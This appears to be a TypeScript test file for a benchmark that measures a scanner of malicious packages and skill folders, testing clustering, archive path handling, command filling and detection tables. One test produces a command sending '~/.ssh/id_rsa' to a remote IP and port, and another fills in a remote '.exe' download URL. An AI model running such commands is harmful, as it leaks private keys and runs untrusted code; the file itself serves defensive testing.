import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { commandOf } from '../../bench/sets/atomic.ts';
import { clusterOf, filesOfArchive } from '../../bench/sets/code-clusters.ts';
import { commandPage, filled, plausible } from '../../bench/sets/command-lists.ts';
import { recordedFiles } from '../../bench/sets/honest-packages.ts';
import { withObservation } from '../../bench/sets/observe-set.ts';
import { skillFolders } from '../../bench/sets/repositories.ts';
import { samplesOfPage, withoutMarks } from '../../bench/sets/sample-pages.ts';
import { isDetected } from '../../bench/sets/scan-set.ts';
import type { SetOutcome } from '../../bench/sets/set-outcome.ts';
import { groups, skillSets } from '../../bench/sets/sets.ts';
import { tableOf } from '../../bench/sets/sets-table.ts';
import { byHash, skillPage, slugOf } from '../../bench/sets/skill-page.ts';

describe('clusters of packages', () => {
  const code = 'import os  # first\nurl = "https://one.example"\nos.system("a %s" % url)\nn = 17\n';

  it.each([
    ['other strings', code.replace('https://one.example', 'https://two.example/longer')],
    ['other numbers and comments', code.replace('17', '0x2A').replace('# first', '# second')],
    ['other white space', code.replace('url = ', 'url  =  ').replaceAll('\n', '\n\n')],
  ])('%s make no new cluster', (_, other) => {
    expect(clusterOf(packageOf({ 'setup.py': other }))).toBe(
      clusterOf(packageOf({ 'a.py': code })),
    );
  });

  it('long words, copies of a file and files of other kinds make no new cluster', () => {
    const long = (word: string): string => `${code}${word} = 1\n`;
    const first = packageOf({ 'a.py': long('qwertyuiopasdfghjklz1') });
    const files = {
      'b.py': long('zxcvbnmasdfghjklqwert2'),
      'c.py': long('x'.repeat(30)),
      'd.txt': 'd',
    };
    expect(clusterOf(packageOf(files))).toBe(clusterOf(first));
  });

  it('other code makes a new cluster', () => {
    const other = code.replace('os.system', 'os.popen');
    expect(clusterOf(packageOf({ 'a.py': other }))).not.toBe(
      clusterOf(packageOf({ 'a.py': code })),
    );
  });
});

describe('archives of packages', () => {
  it('loses the one folder around everything, and names that lead elsewhere', () => {
    const archive = gzipSync(
      tarOf({ 'demo-1/setup.py': 'a', 'demo-1/demo/b.py': 'b', 'demo-1/../../c.py': 'c' }),
    );
    expect([...(filesOfArchive(archive)?.keys() ?? [])]).toEqual(['setup.py', 'demo/b.py']);
  });

  it('keeps the paths when there is no such folder', () => {
    const archive = gzipSync(tarOf({ 'setup.py': 'a', 'demo/b.py': 'b' }));
    expect([...(filesOfArchive(archive)?.keys() ?? [])]).toEqual(['setup.py', 'demo/b.py']);
  });

  it.each([
    ['bytes that are no archive', Buffer.from('no archive')],
    ['an archive without files', gzipSync(tarOf({}))],
  ])('has no files in %s', (_, bytes) => expect(filesOfArchive(bytes)).toBeUndefined());
});

describe('commands', () => {
  it('gives a command a host and files', () => {
    expect(plausible('send </path/to/input-file >attacker.com:12345')).toBe(
      'send <~/.ssh/id_rsa >203.0.113.7:8443',
    );
  });

  it('fills placeholders with and without an extension', () => {
    expect(filled('get {REMOTEURL:.exe} {PATH_SMB:.dll} {PATH} {OTHER}')).toBe(
      'get https://tools.northwind.example/update.exe \\\\tools.northwind.example\\share\\update.dll update {OTHER}',
    );
  });

  it('fills defaults that name further arguments', () => {
    const test = {
      executor: { command: 'copy #{from} PathToAtomicsFolder/T1/#{file} #{unknown}' },
      input_arguments: { from: { default: 'a/#{file}' }, file: { default: 'b' } },
    };
    expect(commandOf(test)).toBe('copy a/b ./T1/b #{unknown}');
  });

  it('puts the commands of a page into code blocks', () => {
    const page = '# demo\n\n> Says hello.\n\n- Greet:\n\n`demo {{[-n|--name]}} {{Ada}}`\n';
    expect(commandPage(page, false)).toBe(
      '# demo\n\nSays hello.\n\n- Greet:\n\n```bash\ndemo --name Ada\n```\n',
    );
    expect(commandPage(page, true)).toContain('```cmd\n');
    expect(commandPage('# Get-Demo\n\n`Get-Demo`\n', true)).toContain('```powershell\nGet-Demo\n');
  });
});

describe('pages', () => {
  it('splits a page of samples', () => {
    expect(samplesOfPage('# All\n\n## One\nfirst\n### In\nit\n\n## Two\nsecond\n')).toEqual([
      'first\n### In\nit',
      'second',
    ]);
  });

  it('removes what a test of rules expects', () => {
    expect(withoutMarks('# ruleid: x\na()\n  // ok: y\nb() # ok\n#todook: z')).toBe(
      'a()\nb() # ok',
    );
  });

  it('quotes a description', () => {
    expect(skillPage('a', 'Use "it": now', 'Text')).toBe(
      '---\nname: a\ndescription: "Use \\"it\\": now"\n---\n\nText\n',
    );
  });

  it('makes names of folders', () => {
    expect(['Over.The/Top_', '…', `${'a'.repeat(55)}-b`].map(slugOf)).toEqual([
      'over-the-top',
      'x',
      'a'.repeat(55),
    ]);
  });

  it('orders by hash', () => {
    expect(byHash(['a', 'b', 'c'], (text) => text)).toEqual(['c', 'b', 'a']);
  });
});

it('a link to another SKILL.md makes no skill', () => {
  const files = [
    { mode: '100644', path: 'skills/a/SKILL.md' },
    { mode: '120000', path: 'other/a/SKILL.md' },
    { mode: '100644', path: 'SKILL.md' },
    { mode: '100644', path: 'README.md' },
  ];
  expect(skillFolders(files)).toEqual(['skills/a', '.']);
});

it('takes the files of a package, not those that pip made', () => {
  const record = [
    'demo/__init__.py,sha256=a,12',
    '"demo/a,b.py",sha256=b,3',
    'demo/__pycache__/a.cpython-311.pyc,,',
    'demo/fast.cpython-311-x86_64-linux-gnu.so,sha256=e,9',
    'demo-1.dist-info/METADATA,sha256=c,9',
    '../../../bin/demo,sha256=d,7',
  ];
  expect(recordedFiles(record.join('\n'))).toEqual(['demo/__init__.py', 'demo/a,b.py']);
});

describe('the table', () => {
  const outcome = (verdict: SetOutcome['verdict'], ...rules: string[]): SetOutcome => ({
    id: 'a',
    verdict,
    hasScripts: true,
    rules,
    decidedBy: [],
    cpuMs: 1,
  });

  it.each([
    ['a pass', outcome('pass'), false],
    ['a review', outcome('review', 'exec/download-and-run'), true],
    ['an install hook alone', outcome('review', 'supply/install-hook'), false],
    ['an install hook and more', outcome('block', 'supply/install-hook', 'flow/x'), true],
    ['what could not be read', outcome('incomplete'), true],
    ['a crash', outcome('crashed'), false],
  ])('counts %s', (_, one, isCounted) => expect(isDetected(one)).toBe(isCounted));

  it('has the honest side beside the attack side, where the install hook is an alarm', () => {
    const hook = [outcome('review', 'supply/install-hook'), outcome('block', 'flow/x')];
    const table = tableOf(
      new Map([
        ['package-malware', hook],
        ['honest-npm', hook],
      ]),
    );
    const cells = table.split('\n').map((line) => line.split('|').map((cell) => cell.trim()));
    expect(cells[2]?.slice(2, 4)).toEqual(['1/2 = 50.0 % [9.5–91]', '1/2 = 50.0 % [9.5–91]']);
    expect(cells[2]?.slice(6, 8)).toEqual(['1/2 = 50.0 % [9.5–91]', '2/2 = 100.0 % [34–100]']);
  });

  it.each([
    ['lowers no verdict', outcome('review', 'flow/x'), 'pass', 'review', true],
    ['raises a pass', outcome('pass'), 'block', 'block', true],
    [
      'counts where the install hook alone does not',
      outcome('review', 'supply/install-hook'),
      'review',
      'review',
      true,
    ],
    [
      'without facts is no detection',
      outcome('review', 'supply/install-hook'),
      'incomplete',
      'review',
      false,
    ],
    ['that failed is no detection', outcome('pass'), 'failed', 'pass', false],
  ] as const)('an observation %s', (_, one, verdict, worse, isCounted) => {
    const both = withObservation({ ...one, observed: { verdict, facts: [] } });
    expect(both.verdict).toBe(worse);
    expect(isDetected(both)).toBe(isCounted);
  });

  it('has a row with detonation below a set that was observed', () => {
    const pass = { ...outcome('pass'), observed: { verdict: 'block', facts: [] } } as const;
    const table = tableOf(new Map([['package-malware', [pass, outcome('block', 'flow/x')]]]));
    const cells = table.split('\n').map((line) => line.split('|').map((cell) => cell.trim()));
    expect(cells[2]?.[2]).toBe('1/2 = 50.0 % [9.5–91]');
    expect(cells[3]?.slice(1, 3)).toEqual(['with detonation', '2/2 = 100.0 % [34–100]']);
  });

  it('names sets that there are, and each set once', () => {
    const named = groups.flatMap(({ attacks, honest }) => [...attacks, ...honest]);
    expect(named.map(({ set }) => set).sort()).toEqual(Object.keys(skillSets).sort());
  });
});

function packageOf(files: Readonly<Record<string, string>>): Map<string, Uint8Array> {
  return new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
}

function tarOf(files: Readonly<Record<string, string>>): Buffer {
  const blocks = Object.entries(files).flatMap(([name, text]) => {
    const header = Buffer.alloc(512);
    header.write(name, 0);
    header.write(`${text.length.toString(8).padStart(11, '0')} `, 124);
    header.write('        ', 148);
    header.write('0', 156);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    const body = Buffer.alloc(512);
    body.write(text);
    return [header, body];
  });
  return Buffer.concat([...blocks, Buffer.alloc(1_024)]);
}
